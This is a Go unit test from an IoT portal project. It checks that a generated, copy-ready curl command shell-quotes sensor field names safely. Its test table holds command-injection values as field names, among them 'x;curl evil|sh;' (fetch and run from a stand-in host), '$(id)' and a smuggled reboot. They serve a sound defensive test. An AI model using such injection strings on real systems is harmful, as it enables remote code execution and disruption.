package portal

import (
	"strings"
	"testing"

	"github.com/thingward/thingward/internal/domain"
)

func TestCommandsToCopyRunNothingElse(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"temperature":         " -d temperature=21.5 ",
		"air pressure":        " -d 'air pressure=21.5' ",
		"x;curl evil|sh;":     " -d 'x;curl evil|sh;=21.5' ",
		"$(id)":               " -d '$(id)=21.5' ",
		"it's; reboot; 'soon": ` -d 'it'\''s; reboot; '\''soon=21.5' `,
	} {
		got := curl{base: "http://localhost"}.send("KEYID", "KEYPASSWORD", "alice.greenhouse", []domain.Field{{Name: name, Type: domain.NumberField}})
		if !strings.Contains(got, want) {
			t.Errorf("%s: got %s", name, got)
		}
	}
}
